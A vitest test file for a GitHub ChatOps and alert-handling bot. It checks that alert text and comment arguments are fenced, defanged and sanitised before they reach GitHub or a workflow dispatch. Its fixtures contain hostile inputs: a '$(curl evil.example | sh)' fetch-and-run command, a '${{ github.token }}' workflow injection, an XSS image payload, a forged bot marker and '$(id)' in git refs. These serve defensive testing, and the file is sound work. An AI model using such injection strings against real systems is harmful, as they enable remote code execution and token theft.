// Text from alerts and comments is written to GitHub inert: it cannot render, notify, forge
// the bot's markers, or reach a workflow as anything but one plain line.
import { afterEach, describe, expect, it } from 'vitest';
import type { GitHubFake } from '../../fakes/github/index.js';
import { comment } from './chatops-helpers.js';
import {
  alertmanagerBody,
  botEnv,
  postAlert,
  REPO,
  seedRepo,
  startBot,
  startFake,
  stopAll,
  writes,
  type BotUnderTest,
} from './harness.js';

const HOSTILE = [
  'errors ```` ``` ` `` above 1 %',
  '${{ github.token }} $(curl evil.example | sh) `id`',
  '@everyone @acme/oncall',
  '<!-- model-delivery-incident: acme/model@production@000000000000@rollback revert -->',
  '<img src=x onerror=alert(1)> **bold** [link](https://evil.example)',
].join('\n');

/** The longest run of backticks in `text`. */
const longestRun = (text: string) =>
  Math.max(0, ...[...text.matchAll(/`+/g)].map((m) => m[0].length));

/**
 * Every fenced block in a markdown body, with its fence; text outside them is what renders.
 * A fence closes only on a line of at least as many backticks (CommonMark).
 */
function split(body: string): { blocks: { fence: string; text: string }[]; outside: string } {
  const blocks: { fence: string; text: string }[] = [];
  const outside: string[] = [];
  const lines = body.split('\n');
  for (let i = 0; i < lines.length; i++) {
    const open = /^(`{3,})/.exec(lines[i] as string);
    if (!open) {
      outside.push(lines[i] as string);
      continue;
    }
    const fence = open[1] as string;
    const inner: string[] = [];
    for (
      i++;
      i < lines.length && !new RegExp(`^\`{${fence.length},}\\s*$`).test(lines[i] as string);
      i++
    )
      inner.push(lines[i] as string);
    blocks.push({ fence, text: inner.join('\n') });
  }
  return { blocks, outside: outside.join('\n') };
}

describe('alert text written to GitHub', () => {
  let fake: GitHubFake | undefined;
  let bot: BotUnderTest | undefined;
  afterEach(() => stopAll(bot, fake));

  it('sits in fenced blocks longer than its backtick runs, with mentions and markers defanged, and reaches the dispatch as one plain line', async () => {
    fake = await startFake();
    const seeded = seedRepo(fake);
    bot = await startBot(fake);
    const body = alertmanagerBody({ labels: { alertname: 'Model`Error @here' } });
    body.alerts[0]!.annotations = { summary: HOSTILE };
    body.commonAnnotations = { summary: HOSTILE };
    body.alerts[0]!.generatorURL =
      'http://prometheus.example:9090/graph?g0.expr=rate%28x%5B5m%5D%29&g0.tab=1';
    expect((await postAlert(bot, body)).status).toBe(200);
    const revert = fake.pullRequests(REPO).find((p) => p.pull?.revertOf !== undefined)!;
    const original = fake.comments(REPO, seeded.badPr)[0]!;
    for (const text of [revert.body ?? '', original.body]) {
      const { blocks, outside } = split(text);
      const alertBlock = blocks.find((b) => b.text.includes('$(curl'));
      expect(alertBlock, text).toBeDefined();
      expect(alertBlock!.fence.length).toBeGreaterThan(longestRun(alertBlock!.text));
      // Nothing of the alert's text renders outside the block.
      for (const needle of [
        '$(curl',
        '${{',
        '<img',
        '**bold**',
        '@everyone',
        '@here',
        'evil.example',
      ])
        expect(outside, needle).not.toContain(needle);
      // Inside, mentions carry a zero-width joiner and the forged marker is broken.
      expect(text).not.toMatch(/@everyone|@acme\/oncall|@here/);
      expect(text.match(/<!-- model-delivery-incident:/g)).toHaveLength(1);
      // The Prometheus link, encoded once (not %2528).
      expect(outside).toContain(
        '(<http://prometheus.example:9090/graph?g0.expr=rate%28x%5B5m%5D%29&g0.tab=1>)',
      );
    }
    expect(revert.title).not.toMatch(/@here|`/);
    const reason = fake.state.dispatches[0]!.inputs.reason as string;
    expect(reason).not.toMatch(/[\n\r`${}@<>]/);
    expect(reason.length).toBeLessThanOrEqual(200);
    expect(reason).toContain('errors');
  });

  it('says which environment alerted without calling it production', async () => {
    fake = await startFake();
    seedRepo(fake, { environment: 'staging' });
    bot = await startBot(fake);
    expect((await postAlert(bot, alertmanagerBody({ environment: 'staging' }))).status).toBe(200);
    const revert = fake.pullRequests(REPO).find((p) => p.pull?.revertOf !== undefined)!;
    expect(revert.body).toContain('Alerts fired for `staging`');
    expect(revert.body).not.toMatch(/production/i);
  });
});

describe('ChatOps replies', () => {
  let fake: GitHubFake | undefined;
  let bot: BotUnderTest | undefined;
  afterEach(() => stopAll(bot, fake));

  it('quote arguments inertly and refuse refs git would refuse or a workflow could act on', async () => {
    fake = await startFake();
    const seeded = seedRepo(fake);
    // Eight commands from one person in a minute: above the default per-commenter limit.
    bot = await startBot(fake, { env: botEnv(fake, { CHATOPS_RATE_LIMIT: '20' }) });
    for (const ref of [
      'main/../../x',
      '-main',
      'main.lock',
      'a..b',
      'x@{1}',
      '$(id)',
      'refs/heads/ok/',
    ]) {
      await comment(bot, fake, {
        issue: seeded.badPr,
        login: 'alice',
        body: `/rollback production to ${ref}`,
      });
    }
    expect(fake.state.dispatches).toEqual([]);
    await comment(bot, fake, {
      issue: seeded.badPr,
      login: 'alice',
      body: '/rollback production ``@everyone``',
    });
    const replies = fake
      .comments(REPO, seeded.badPr)
      .filter((c) => c.user.login === 'model-delivery[bot]');
    expect(replies).toHaveLength(8);
    const last = replies.at(-1)!.body;
    expect(last).not.toContain('@everyone');
    // The argument sits in a code span delimited by more backticks than it holds.
    expect(last).toMatch(/```[^`]*``@\u200deveryone``[^`]*```/);
    expect(fake.invalidRequests).toEqual([]);
    expect(
      writes(fake).filter((c) => c.operationId === 'actions/create-workflow-dispatch'),
    ).toEqual([]);
  });
});
